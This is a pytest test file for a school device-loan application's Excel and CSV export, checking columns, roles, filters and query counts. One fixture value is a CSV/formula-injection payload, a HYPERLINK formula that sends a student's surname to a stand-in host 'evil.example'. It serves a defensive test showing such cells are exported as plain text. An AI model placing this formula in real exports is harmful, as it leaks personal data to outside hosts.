"""The loans as a spreadsheet: what a school admin opens in Excel, who gets which loans,
and that a file of many loans costs no more queries than one of a few."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone, translation

from core.errors import PermissionDenied, ValidationFailed
from scheduling.exporting import CHUNK_SIZE, loan_export
from scheduling.models import Loan, LoanStatus
from scheduling.selectors import LoanFilters
from tests.accounts.factories import PersonFactory
from tests.factories import UserFactory
from tests.scheduling.conftest import days
from tests.scheduling.factories import LoanFactory

URL = "/api/v1/loans/export"
HEADERS_DE = [
    "Ausleihnummer",
    "Status",
    "Schulnummer",
    "Schule",
    "Klasse",
    "Nachname",
    "Vorname",
    "Kategorie",
    "Inventarnummer",
    "Seriennummer",
    "Modell",
    "Von",
    "Bis",
    "Grund",
    "Bemerkung",
    "Angefragt von",
    "Angefragt am",
    "Ausgegeben am",
    "Erziehungsberechtigte(r)",
    "Ausgegebenes Zubehör",
    "Zurückgegeben am",
    "Zurückgegebenes Zubehör",
    "Überfällig",
]
AWKWARD_LAST = "D'Alessandro-Müller, Jr."
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&F2,"Details")'


@pytest.fixture
def loans(school_a, school_b, students_a, student_b, class_a, teacher, coordinator, lendable):
    """Three loans of school A (one handed out and overdue, one requested by the
    coordinator, one returned) and one of school B."""
    awkward = PersonFactory(
        school=school_a, school_class=class_a, first_name="Jörg", last_name=AWKWARD_LAST
    )
    handed_out_at = timezone.make_aware(datetime.datetime(2026, 11, 2, 0, 30))
    out = LoanFactory(
        student=awkward,
        requested_by=teacher,
        status=LoanStatus.ON_LOAN,
        device=lendable(school_a, "L-1", serial_number="PF3XYZ"),
        starts_on=days(-20),
        ends_on=days(-2),
        note=FORMULA_NOTE,
        guardian_name="=Eltern+1",
        accessories_out=["charger", "case"],
        handed_out_at=handed_out_at,
    )
    requested = LoanFactory(
        student=students_a[0],
        requested_by=coordinator,
        category="tablet",
        starts_on=days(3),
        ends_on=days(10),
        reason="quarantine",
    )
    returned = LoanFactory(
        student=students_a[1],
        requested_by=teacher,
        status=LoanStatus.RETURNED,
        device=lendable(school_a, "L-2"),
        starts_on=days(-40),
        ends_on=days(-30),
        returned_at=timezone.now(),
        accessories_in=["charger"],
    )
    other = LoanFactory(
        student=student_b,
        requested_by=UserFactory(username="fremd", schools=[school_b]),
        status=LoanStatus.RESERVED,
        device=lendable(school_b, "B-1"),
        starts_on=days(1),
        ends_on=days(5),
    )
    return {"out": out, "requested": requested, "returned": returned, "other": other}


def export_bytes(actor, fmt="xlsx", filters=None, language="de") -> bytes:
    with translation.override(language):
        export = loan_export(actor=actor, filters=filters, fmt=fmt)
    try:
        return export.path.read_bytes()
    finally:
        export.path.unlink()


def xlsx_sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def xlsx_rows(data: bytes) -> dict[int, dict[str, object]]:
    rows = list(xlsx_sheet(data).iter_rows(values_only=True))
    return {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def loan_numbers(data: bytes, fmt: str = "xlsx") -> set[int]:
    if fmt == "xlsx":
        return set(xlsx_rows(data))
    return {int(row[0]) for row in csv_rows(data)[1:]}


# What the file holds


def test_xlsx_has_german_headers_frozen_and_filtered(it_admin, loans):
    sheet = xlsx_sheet(export_bytes(it_admin))
    assert sheet.title == "Ausleihen"
    assert [cell.value for cell in sheet[1]] == HEADERS_DE
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:W5"
    assert sheet.max_row == 5


def test_english_headers_in_an_english_export(it_admin, loans):
    sheet = xlsx_sheet(export_bytes(it_admin, language="en"))
    headers = [cell.value for cell in sheet[1]]
    assert headers[:4] == ["Loan number", "Status", "School number", "School"]
    assert headers[-1] == "Overdue"


def test_a_loan_reads_as_a_school_admin_expects(it_admin, loans, school_a):
    row = xlsx_rows(export_bytes(it_admin))[loans["out"].pk]
    assert row["Status"] == "Verliehen"
    assert (row["Schulnummer"], row["Schule"]) == (school_a.number, school_a.name)
    assert (row["Klasse"], row["Nachname"], row["Vorname"]) == ("7b", AWKWARD_LAST, "Jörg")
    assert (row["Kategorie"], row["Inventarnummer"]) == ("Laptop", "L-1")
    assert (row["Seriennummer"], row["Modell"]) == ("PF3XYZ", "Lenovo ThinkPad E14")
    assert row["Grund"] == "Distanzunterricht"
    assert row["Angefragt von"] == "Erika Mustermann"
    assert row["Ausgegebenes Zubehör"] == "Ladegerät, Hülle"
    assert row["Überfällig"] == "ja"
    assert row["Zurückgegeben am"] is None
    returned = xlsx_rows(export_bytes(it_admin))[loans["returned"].pk]
    assert (returned["Überfällig"], returned["Zurückgegebenes Zubehör"]) == ("nein", "Ladegerät")
    requested = xlsx_rows(export_bytes(it_admin))[loans["requested"].pk]
    assert requested["Inventarnummer"] is None and requested["Modell"] is None


def test_dates_are_date_cells_and_timestamps_the_day_in_berlin(it_admin, loans):
    sheet = xlsx_sheet(export_bytes(it_admin))
    headers = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == loans["out"].pk)
    cells = dict(zip(headers, row, strict=True))
    assert cells["Von"].is_date and cells["Von"].value.date() == days(-20)
    assert cells["Bis"].value.date() == days(-2)
    assert cells["Von"].number_format == "dd.mm.yyyy"
    # 00:30 in Berlin on 2 November is still 1 November in UTC: the day shown is Berlin's.
    assert cells["Ausgegeben am"].is_date
    assert cells["Ausgegeben am"].value.date() == datetime.date(2026, 11, 2)
    assert cells["Angefragt am"].value.date() == timezone.localdate()
    assert cells["Ausleihnummer"].data_type == "n"


def test_no_cell_starting_with_equals_is_a_formula(it_admin, loans):
    sheet = xlsx_sheet(export_bytes(it_admin))
    headers = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == loans["out"].pk)
    cells = dict(zip(headers, row, strict=True))
    for header, text in [("Bemerkung", FORMULA_NOTE), ("Erziehungsberechtigte(r)", "=Eltern+1")]:
        assert cells[header].data_type == "s"
        assert cells[header].value == text
    data = csv_rows(export_bytes(it_admin, fmt="csv"))
    row = next(r for r in data[1:] if r[0] == str(loans["out"].pk))
    assert "'" + FORMULA_NOTE in row
    assert "'=Eltern+1" in row


def test_csv_keeps_umlauts_apostrophe_and_comma_and_writes_german_dates(it_admin, loans):
    data = export_bytes(it_admin, fmt="csv")
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel on Windows shows the umlauts
    rows = csv_rows(data)
    assert rows[0] == HEADERS_DE
    row = dict(zip(rows[0], next(r for r in rows if r[0] == str(loans["out"].pk)), strict=True))
    assert (row["Nachname"], row["Vorname"]) == (AWKWARD_LAST, "Jörg")
    assert row["Von"] == days(-20).strftime("%d.%m.%Y")
    assert row["Ausgegeben am"] == "02.11.2026"


# Who gets which loans, and the filters


def test_a_teacher_gets_only_the_requests_they_made(teacher, loans):
    assert loan_numbers(export_bytes(teacher)) == {loans["out"].pk, loans["returned"].pk}


def test_a_coordinator_never_gets_another_schools_loans(coordinator, loans, school_b):
    assert loan_numbers(export_bytes(coordinator)) == {
        loans["out"].pk,
        loans["requested"].pk,
        loans["returned"].pk,
    }
    assert loan_numbers(export_bytes(coordinator, filters=LoanFilters(school=school_b.number))) == (
        set()
    )


def test_city_staff_are_refused_and_no_file_is_left(city_staff, loans, tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    with pytest.raises(PermissionDenied):
        loan_export(actor=city_staff)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"status": "on_loan"}, {"out"}),
        ({"category": "tablet"}, {"requested"}),
        ({"school": "123456"}, {"other"}),
        ({"mine": True}, set()),
    ],
)
def test_filters_work_as_in_the_loan_list(it_admin, loans, filters, expected):
    got = loan_numbers(export_bytes(it_admin, filters=LoanFilters(**filters)))
    assert got == {loans[key].pk for key in expected}


def test_the_student_filter_gives_the_loans_on_a_persons_page(coordinator, loans):
    student = loans["out"].student_id
    got = loan_numbers(export_bytes(coordinator, filters=LoanFilters(student=student)))
    assert got == {loans["out"].pk}


def test_an_unknown_format_is_refused_naming_the_field(it_admin, loans):
    with pytest.raises(ValidationFailed) as caught:
        loan_export(actor=it_admin, fmt="pdf")
    assert caught.value.errors[0]["field"] == "format"


def test_queries_do_not_grow_with_the_number_of_loans(
    coordinator, loans, students_a, django_assert_max_num_queries
):
    # The schools, the rows, and the access log entries of the students in the file.
    with django_assert_max_num_queries(3):
        assert len(loan_numbers(export_bytes(coordinator))) == 3
    Loan.objects.bulk_create(
        Loan(
            student=students_a[2],
            school_id=students_a[2].school_id,
            category="laptop",
            starts_on=days(-400 + n % 300),
            ends_on=days(-400 + n % 300),
            reason="other",
            status=LoanStatus.RETURNED,
        )
        for n in range(CHUNK_SIZE + 500)
    )
    coordinator = type(coordinator).objects.get(pk=coordinator.pk)  # no cached schools
    with django_assert_max_num_queries(3):
        assert len(loan_numbers(export_bytes(coordinator))) == CHUNK_SIZE + 503


# The API


def test_api_sends_an_xlsx_attachment_named_in_german(client_for, coordinator, loans):
    response = client_for(coordinator).get(URL, {"status": "on_loan"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    today = timezone.localdate().isoformat()
    assert f'filename="Ausleihen-{today}.xlsx"' in response["Content-Disposition"]
    assert loan_numbers(b"".join(response.streaming_content)) == {loans["out"].pk}


def test_api_sends_csv_in_english_when_asked(client_for, teacher, loans):
    response = client_for(teacher, language="en").get(URL, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "Loans-" in response["Content-Disposition"]
    rows = csv_rows(b"".join(response.streaming_content))
    assert rows[0][0] == "Loan number"
    assert {int(row[0]) for row in rows[1:]} == {loans["out"].pk, loans["returned"].pk}


def test_api_refuses_city_staff_with_403(client_for, city_staff, loans):
    response = client_for(city_staff, language="en").get(URL)
    assert response.status_code == 403
    assert set(response.json()) == {"message", "code", "errors"}


@pytest.mark.parametrize(
    ("params", "field"), [({"format": "pdf"}, "format"), ({"status": "gone"}, "status")]
)
def test_api_bad_parameters_are_422_naming_the_field(client_for, it_admin, loans, params, field):
    response = client_for(it_admin, language="en").get(URL, params)
    assert response.status_code == 422
    assert field in [error["field"] for error in response.json()["errors"]]


# The command


def test_command_writes_the_file_with_the_filters(tmp_path, loans):
    output = tmp_path / "ausleihen.xlsx"
    out = io.StringIO()
    call_command("export_loans", "--output", str(output), "--status", "Verliehen", stdout=out)
    assert loan_numbers(output.read_bytes()) == {loans["out"].pk}
    assert "1 Ausleihe in" in out.getvalue()


def test_command_writes_csv_for_one_school_as_a_user(tmp_path, loans, coordinator, school_b):
    output = tmp_path / "loans.csv"
    call_command(
        "export_loans",
        "--format",
        "csv",
        "--output",
        str(output),
        "--user",
        coordinator.username,
        "--language",
        "en",
        stdout=io.StringIO(),
    )
    rows = csv_rows(output.read_bytes())
    assert rows[0][0] == "Loan number"
    assert len(rows) == 4  # the header and school A's three loans


def test_command_without_output_names_the_file_by_date(tmp_path, monkeypatch, loans):
    monkeypatch.chdir(tmp_path)
    call_command("export_loans", "--school", "123456", stdout=io.StringIO())
    written = tmp_path / f"Ausleihen-{timezone.localdate():%Y-%m-%d}.xlsx"
    assert loan_numbers(written.read_bytes()) == {loans["other"].pk}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--status", "verschwunden"], "verschwunden"),
        (["--format", "csv", "--output", "x.xlsx"], ".csv"),
        (["--user", "niemand"], "niemand"),
        (["--user", "stadt"], "nicht berechtigt"),
    ],
)
def test_command_refuses_bad_arguments_and_writes_nothing(
    tmp_path, monkeypatch, loans, city_staff, args, message
):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CommandError, match=message):
        call_command("export_loans", *args, stdout=io.StringIO())
    assert list(tmp_path.iterdir()) == []
